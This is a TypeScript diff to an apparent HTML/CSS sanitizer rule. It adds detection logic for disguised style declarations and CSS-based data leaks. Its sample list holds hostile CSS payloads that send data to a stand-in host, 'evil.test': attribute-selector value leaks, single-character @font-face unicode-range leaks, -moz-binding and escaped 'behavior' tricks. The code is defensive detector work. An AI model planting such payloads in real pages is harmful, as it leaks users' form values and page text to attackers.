@@ -22,13 +22,18 @@ export const styleScript: ValueRule = {
     '<style>body{background:url("javascript:go()")}</style>',
     "<style>@import'//evil.test/x.css';</style>",
     '<p style="-moz-binding:url(//evil.test/x.xml#y)">',
+    '<p style="font-family:a}b=red;c:">',
+    '<p style="\\62 \\65 \\68 avior:x">',
     '<style>input[value^="a"]{background:url(//evil.test/a)}</style>',
+    '<style>@font-face{font-family:x;src:url(//evil.test/?A);unicode-range:U+0041}</style>',
   ],
   lookalikes: [
     '<p style="text-align: center; color: #333; background: url(\'/img/bg.png\')">Hi</p>',
     '<style>html { scroll-behavior: smooth; overscroll-behavior: none }</style>',
     '<style>@import url("https://fonts.example.org/css?family=Inter");</style>',
+    `<p style="quotes: '\\201c' '\\201d'; content: '\\27'">He said</p>`,
     '<p class="style">the expression (x + 1) is a style of its own</p>',
+    '<style>@font-face{src:url(https://fonts.example.org/a.woff2);unicode-range:U+0000-00FF}</style>',
     '<style>a[href^="http"]{background:url(/img/external.svg) no-repeat right}</style>',
   ],
 };
@@ -44,6 +49,9 @@ function judgeStyles(subject: Subject): Match | undefined {
     for (const attribute of tag.attributes) {
       if (attribute.name !== 'style') continue;
       weigh(attribute.start, attribute.valueEnd, attribute.valueStart);
+      if (best === undefined && isDisguised(text.slice(attribute.valueStart, attribute.valueEnd))) {
+        best = { start: attribute.start, end: attribute.valueEnd, score: 76 };
+      }
       if (best === undefined && holdsDialog(subject, attribute)) {
         return { start: attribute.start, end: attribute.valueEnd, score: 80 };
       }
@@ -57,6 +65,26 @@ function judgeStyles(subject: Subject): Match | undefined {
   }
   return best;
 }
+
+/**
+ * Declarations that are written so that a filter and a browser read different ones: a `}` that
+ * nothing has opened, strings that open and close comments, letters and marks as escapes.
+ */
+function isDisguised(style: string): boolean {
+  const closer = style.indexOf('}');
+  if (closer >= 0 && style.lastIndexOf('{', closer) < 0 && style.includes(':')) return true;
+  if (style.includes('*//*')) return true;
+  let escapes = 0;
+  for (let at = style.indexOf('\\'); at >= 0; at = style.indexOf('\\', at + 1)) {
+    if (escapedAscii.test(style.slice(at, at + 8)) && ++escapes >= escapesMin) return true;
+  }
+  return false;
+}
+
+/** A CSS escape (CSS Syntax Level 3, section 4.3.7) of an ASCII character that needs none. */
+const escapedAscii = /^\\0{0,4}[2-7][0-9a-f](?![0-9a-f])/i;
+/** A font's name or a glyph may be escaped, but not one character after the other. */
+const escapesMin = 3;
 
 /** `x:a/**\/b(alert(1))`: a call that no style has. */
 function holdsDialog(subject: Subject, attribute: HtmlAttribute): boolean {
@@ -72,10 +100,36 @@ function scoreOfStyle(style: string): number {
   if (style.includes('-moz-binding:') || style.includes('binding:url(')) return 90;
   if (style.includes('behavior:url(') || style.includes('behaviour:url(')) return 85;
   if (style.includes('data:text/html') || style.includes('data:text/css')) return 80;
-  const leak = style.indexOf('[value^=');
-  if (leak >= 0 && namesHost(style, style.indexOf('url(', leak))) return 80;
+  if (leaksValue(style) || leaksText(style)) return 80;
   return scoreOfImport(style);
 }
+
+/** What a style reads of a page, character by character. */
+const readAttributes = ['[value', '[content', '[nonce', '[data-'];
+
+/** `[value^=a]{background:url(//…)}`: a request tells how a value begins or what it holds. */
+function leaksValue(style: string): boolean {
+  for (const attribute of readAttributes) {
+    const at = style.indexOf(attribute);
+    if (at < 0) continue;
+    const selector = style.slice(at, at + 40);
+    const compares = selector.includes('^=') || selector.includes('$=') || selector.includes('*=');
+    if (compares && namesHost(style, style.indexOf('url(', at))) return true;
+  }
+  return false;
+}
+
+/** A font for one character alone: it is fetched when the text has that character. */
+function leaksText(style: string): boolean {
+  const at = style.indexOf('unicode-range:u+');
+  if (at < 0) return false;
+  const range = style.slice(at + 16, at + 24);
+  const end = range.search(rangeEnd);
+  const isSingle = end > 0 && range.charAt(end) !== '-' && range.charAt(end) !== ',';
+  return isSingle && namesHost(style, style.indexOf('url('));
+}
+
+const rangeEnd = /[^0-9a-f]/;
 
 function scoreOfImport(style: string): number {
   const at = style.indexOf('@import');
@@ -83,7 +137,10 @@ function scoreOfImport(style: string): number {
   const target = style.slice(at + 7, at + 40);
   const isFunction = target.startsWith('url(');
   const url = withoutQuotes(isFunction ? target.slice(4) : target);
-  if (url.startsWith('//')) return isFunction ? 55 : 80;
+  if (url.startsWith('//')) {
+    const isBare = isFunction && url === target.slice(4);
+    return !isFunction || (isBare && !url.includes('font')) ? 80 : 55;
+  }
   if (url.startsWith('http:')) return 72;
   return url.startsWith('https:') ? 50 : 0;
 }
